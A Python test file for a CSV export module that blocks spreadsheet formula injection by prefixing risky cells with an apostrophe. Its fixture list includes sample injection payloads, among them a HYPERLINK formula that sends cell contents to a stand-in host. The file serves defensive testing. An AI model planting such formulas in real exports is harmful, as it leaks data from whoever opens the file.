"""Cells a spreadsheet would run are neutralised; numbers stay numbers; the importer reads them back."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecoute.lib.formula_safe import (
    FORMULA_STARTS,
    FormulaSafeCsvWriter,
    csv_field,
    formula_safe,
    restore_text,
)

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"clic")',
    "=2+5",
    "+x",
    "@SUM(A1:A9)",
    "-x",
    "\tx",
    "\r=1+1",
]


def _is_negative_number(text: str) -> bool:
    return text[:1] == "-" and text[1:].replace(",", "").replace(".", "").replace("\u00a0", "").isdigit()


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize(
    "number", ["-15,00", "-2.25", "-1\u00a0234,56", "-7", -15, -2.5, Decimal("-3.10"), 0]
)
def test_numbers_stay_numbers(number: object) -> None:
    assert formula_safe(number) == number


def test_a_phone_number_with_a_plus_is_text_and_is_neutralised() -> None:
    assert formula_safe("+33 6 12 34 56 78") == "'+33 6 12 34 56 78"


@pytest.mark.parametrize("text", ["Durand", "l'Oréal", "", "1-2", "'abc", "a=b"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert formula_safe(text) == text
    assert restore_text(text) == text


@given(st.text())
def test_what_is_written_reads_back_as_it_was(text: str) -> None:
    assert restore_text(formula_safe(text)) == text


@given(st.text())
def test_nothing_written_starts_a_formula_unless_it_is_a_negative_number(text: str) -> None:
    written = formula_safe(text)
    assert written[:1] not in FORMULA_STARTS or _is_negative_number(written)


def test_an_apostrophe_typed_before_a_formula_character_survives_the_round_trip() -> None:
    assert formula_safe("'=x") == "''=x"
    assert restore_text("''=x") == "'=x"


def test_a_separator_followed_by_a_formula_character_gets_the_row_quoted() -> None:
    # Given a ";" file that Excel set to split on commas would cut "a,=1+1" in two
    out = io.StringIO()
    writer = FormulaSafeCsvWriter(out, delimiter=";")

    # When rows are written
    writer.writerow(["C1", "Durand, =1+1", -15])
    writer.writerow(["C2", "Petit", "-15,00"])

    # Then the first row's text cells are quoted (numbers are not), the second is left plain
    assert out.getvalue() == '"C1";"Durand, =1+1";-15\r\nC2;Petit;-15,00\r\n'
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["C1", "Durand, =1+1", "-15"],
        ["C2", "Petit", "-15,00"],
    ]


@pytest.mark.parametrize(
    ("text", "field"),
    [("=1+1", "'=1+1"), ('a"b', '"a""b"'), ("a,b", '"a,b"'), ("x;=1", '"x;=1"'), ("-5", "-5"), ("ok", "ok")],
)
def test_a_field_built_by_hand_is_neutralised_and_quoted_when_needed(text: str, field: str) -> None:
    assert csv_field(text, ",") == field
